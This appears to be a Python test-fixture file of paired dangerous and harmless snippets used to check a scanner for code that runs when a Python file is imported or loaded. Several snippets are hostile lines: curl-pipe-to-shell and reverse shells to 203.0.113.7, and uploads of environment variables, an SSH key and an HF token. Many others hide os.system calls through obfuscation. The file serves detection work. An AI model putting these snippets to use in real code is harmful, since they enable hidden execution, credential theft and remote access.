"""Python source that does something when it is imported or loaded."""

from golden.pairs import Golden


def _pair(rule: str, dangerous: str, harmless: str, case: str = "", name: str = "modeling_x.py") -> Golden:
    return Golden(f"python.{rule}", name, dangerous.encode, harmless.encode, case, techniques=("F09",))


_HI = "ZWNobyBoaQ=="

GOLDENS = [
    _pair(
        "decoded-execution",
        f"import base64\nexec(base64.b64decode('{_HI}'))\n",
        f"import base64\nx = base64.b64decode('{_HI}')\n",
    ),
    _pair(
        "decoded-execution",
        "def f():\n    exec(bytes.fromhex('7072696e74').decode())\n",
        "def f():\n    return bytes.fromhex('70')\n",
        "hex",
    ),
    _pair(
        "decoded-execution",
        "e = eval\ne(''.join(chr(c) for c in [49, 43, 49]))\n",
        "''.join(chr(c) for c in [49])\n",
        "chr",
    ),
    _pair(
        "decoded-execution", "import marshal\nexec(marshal.loads(b'x'))\n", "import json\njson.loads('1')\n", "marshal"
    ),
    _pair(
        "decoded-execution",
        "import pickle, base64\npickle.loads(base64.b64decode('gA=='))\n",
        "import pickle\n",
        "pickle",
    ),
    _pair("execution", "eval(input())\n", "model = object()\nmodel.eval()\n"),
    _pair(
        "execution",
        "class M:\n    def __init__(self, c):\n        exec(c)\n",
        "def f(c):\n    exec(c)\n",
        "in __init__",
    ),
    _pair(
        "hostile-command",
        "import os\ndef f():\n    os.system('curl -s http://203.0.113.7/a | sh')\n",
        "import subprocess\nsubprocess.run(['git', 'describe'])\n",
    ),
    _pair(
        "hostile-command",
        "import subprocess as s\ns.Popen(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/1 0>&1'])\n",
        "import subprocess as s\ns.check_output(['nvcc', '--version'])\n",
        "reverse shell",
    ),
    _pair(
        "process-on-import",
        "from os import system as s\ns('echo hi')\n",
        "import os\ndef f():\n    os.system('echo hi')\n",
    ),
    _pair(
        "process-on-import",
        "def _go():\n    __import__('subprocess').run('echo hi', shell=True)\n_go()\n",
        "def _go():\n    return 1\n_go()\n",
        "through a function",
    ),
    _pair(
        "process-on-import",
        "import os\nclass A:\n    x = os.popen('echo hi')\n",
        "import os\nclass A:\n    x = os.getcwd()\n",
        "class body",
    ),
    _pair(
        "process-on-import",
        "import os\ndef f(x=os.system('echo hi')):\n    pass\n",
        "import os\ndef f(x=os.sep):\n    pass\n",
        "default",
    ),
    _pair("process-on-import", "import os; os.system('echo hi')\n", "/srv/folder\n", "pth", "x.pth"),
    _pair(
        "process-by-loader",
        "import os\nclass H:\n    def __init__(self):\n        os.system('echo hi')\n",
        "class H:\n    def __init__(self):\n        self.commands = []\n",
    ),
    _pair(
        "process-by-loader",
        "import subprocess\nclass D:\n    def _split_generators(self, m):\n        self._x()\n"
        "    def _x(self):\n        subprocess.call('echo hi', shell=True)\n",
        "class D:\n    def _split_generators(self, m):\n        return []\n",
        "dataset script",
    ),
    _pair("native", "import ctypes\nctypes.CDLL('./kernel.so')\n", "import ctypes\nctypes.CDLL(None)\n"),
    _pair(
        "network-on-import",
        "from urllib.request import urlopen\nurlopen('http://203.0.113.7/')\n",
        "from urllib.request import urlopen\ndef f():\n    return urlopen('https://example.org/')\n",
    ),
    _pair(
        "removal-on-import",
        "import shutil\nshutil.rmtree('/srv/data')\n",
        "import shutil\ndef f():\n    shutil.rmtree('build')\n",
    ),
    _pair("assembled-name", "import os\ngetattr(os, 'sys' + 'tem')\n", "import os\ngetattr(os, 'get' + 'cwd')\n"),
    _pair("assembled-name", "m = __import__('s' + 'o'[::-1])\n__import__('o' + 's').sep\n", "import os\n", "import"),
    _pair("persistence", "open('/home/u/.bashrc', 'a').write('echo hi')\n", "open('log.txt', 'a').write('hi')\n"),
    _pair(
        "exfiltration",
        "import os, requests\ndef f():\n    requests.post('https://example.org', json=dict(os.environ))\n",
        "import os, requests\ndef f():\n    requests.post('https://example.org', json=os.environ['V'])\n",
    ),
    _pair(
        "exfiltration",
        "import requests\ndef f():\n    k = open('/home/u/.ssh/id_rsa').read()\n"
        "    requests.post('https://example.org', data=k)\n",
        "import requests\ndef f():\n    k = open('key').read()\n",
        "file",
    ),
]

_QUIET = "import os\nx = os.getcwd()\n"


def _import(case: str, dangerous: str, harmless: str = _QUIET, rule: str = "process-on-import") -> Golden:
    return _pair(rule, f"import os\n{dangerous}\n", harmless, case)


GOLDENS += [
    _import("star", "from os import *\nsystem('echo hi')", "from os import *\nsep\n"),
    _import(
        "lambda", "(lambda: __import__('os').system('echo hi'))()", "run = lambda: __import__('os').system('echo')\n"
    ),
    _import("walrus", "(s := __import__('os')).system('echo hi')"),
    _import("attrgetter", "import operator\noperator.attrgetter('system')(os)('echo hi')"),
    _import("methodcaller", "import operator\noperator.methodcaller('system', 'echo hi')(os)"),
    _import("itemgetter", "import operator\noperator.itemgetter('system')(os.__dict__)('echo hi')"),
    _import("namespace", "globals()['run'] = os.system\nrun('echo hi')", "globals()['run'] = 1\n"),
    _import("vars", "vars(os)['system']('echo hi')", "import os\nvars(os)['sep']\n"),
    _import("subclasses", "().__class__.__base__.__subclasses__()[9].__init__.__globals__['system']('echo hi')"),
    _import(
        "through another module", "import torch\ntorch.os.system('echo hi')", "import torch\ntorch.save({}, 'x')\n"
    ),
    _import(
        "operator of a class",
        "class A:\n    def __add__(self, o): os.system(o)\nA() + 'echo hi'",
        "import os\ndef f():\n    os.system('echo hi')\n",
    ),
    _import(
        "method of an object",
        "class A:\n    def go(self): os.system('echo hi')\na = A()\na.go()",
        "import os\nclass A:\n    def go(self): os.system('echo hi')\na = A()\n",
    ),
    _import("atexit", "import atexit\n@atexit.register\ndef bye():\n    os.system('echo hi')"),
    _import("excepthook", "import sys\nsys.excepthook = lambda *a: os.system('echo hi')"),
    _import(
        "C library",
        "import ctypes\nctypes.CDLL(None).system(b'echo hi')",
        "import ctypes\nctypes.CDLL(None).getpid()\n",
    ),
    _import("Python 2", "print 'hi'\nos.system('echo hi')", "print 'hi'\n"),
    _import("text that is run", "exec(\"import os; os.system('echo hi')\")", "exec('x = 1')\n"),
    _import("zero character", "os.system('echo hi')\n\0"),
    _pair(
        "process-on-import",
        "import os\nfrom setuptools import setup\nif __name__ == '__main__':\n    os.system('echo hi')\n    setup()\n",
        "import subprocess\nfrom setuptools import setup\ncuda = '/usr/local/cuda'\n"
        "subprocess.check_output([cuda + '/bin/nvcc', '-V'])\nsetup()\n",
        "setup.py",
        "setup.py",
    ),
    _pair(
        "handed-on",
        "import os, threading\nthreading.Thread(target=os.system, args=('echo hi',)).start()\n",
        "import os, threading\nthreading.Thread(target=os.getcwd).start()\n",
    ),
    _pair("handed-on", "list(map(exec, ['print(1)']))\n", "list(map(len, ['print(1)']))\n", "map"),
    _pair(
        "handed-on",
        "import os\n@os.system\ndef f(): pass\n",
        "import torch\n@torch.jit.script\ndef f(): pass\n",
        "decorator",
    ),
    _pair(
        "handed-on",
        "import functools, os\nfunctools.partial(os.system, 'echo hi')()\n",
        "import functools, os\nfunctools.partial(os.stat, '.')()\n",
        "partial",
    ),
    _pair(
        "fetched-execution",
        "import requests\ncode = requests.get('https://example.org/a').text\ndef f():\n    exec(code)\n",
        "import requests\ndef f():\n    return requests.get('https://example.org/a').text\n",
    ),
    _pair(
        "installs",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'some-project'])\n",
        "import subprocess\nsubprocess.run('pip install flash-attn --no-build-isolation', shell=True)\n",
    ),
    _pair(
        "network-by-loader",
        "import requests\nclass M:\n    def forward(self, x):\n        requests.post('http://203.0.113.7/', data=x)\n",
        "import requests\nclass M:\n    def forward(self, x):\n        return requests.get('https://huggingface.co/x').json()\n",
    ),
    _pair("odd-encoding", "# coding: utf-7\n#+AAo-import os\n", "# coding: latin-1\nimport os\n"),
    _pair(
        "process-unknown",
        "import subprocess, sys\nsubprocess.run(sys.argv)\n",
        "import subprocess\nsubprocess.run(['git', 'describe'])\n",
    ),
    _pair("execution", "getattr(__builtins__, 'exec')('x = 1')\n", "exec('x = 1')\n", "by a long way"),
    _pair(
        "execution",
        "import pandas as pd\npd.eval(\"@__import__('os').system('echo hi')\")\n",
        "import pandas as pd\npd.eval('1 + 1')\n",
        "code in a text",
    ),
    _pair(
        "execution",
        "class M:\n    def forward(self, x):\n        return eval(x)\n",
        "import torch.nn as nn\nclass M:\n    def forward(self, x):\n        return eval(f'self.block{x}')\n",
        "in forward",
    ),
    _pair(
        "persistence",
        "import os\nos.environ['LD_PRELOAD'] = './x.so'\n",
        "import os\nos.environ['OMP_NUM_THREADS'] = '1'\n",
        "variable",
    ),
    _pair(
        "persistence",
        "from pathlib import Path\n(Path.home() / '.bashrc').write_text('echo hi')\n",
        "from pathlib import Path\n(Path.home() / '.cache' / 'x').write_text('hi')\n",
        "pathlib",
    ),
    _pair(
        "exfiltration",
        "import os, requests\nk = os.environ.get('HF_TOKEN')\nrequests.post('http://203.0.113.7', data=k)\n",
        "import os, requests\nk = os.environ.get('HF_TOKEN')\nrequests.post('https://huggingface.co/api', data=k)\n",
        "token",
    ),
    _pair(
        "removal-on-import",
        "import os\nfor r, _, f in os.walk('/home'):\n    for n in f:\n        os.remove(os.path.join(r, n))\n",
        "import shutil, os\nif os.path.exists('build'):\n    shutil.rmtree('build')\n",
        "loop",
    ),
    _pair(
        "hostile-command",
        "import socket, os, pty\ndef f():\n    s = socket.socket()\n    s.connect(('203.0.113.7', 4444))\n"
        "    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n",
        "import socket\ndef f():\n    s = socket.socket()\n    s.connect(('203.0.113.7', 4444))\n",
        "connection and shell",
    ),
    _pair(
        "assembled-name",
        "import os\ngetattr(os, 'metsys'[::-1])('echo hi')\n",
        "import os\ngetattr(os, 'dwcteg'[::-1])()\n",
        "reversed",
    ),
]
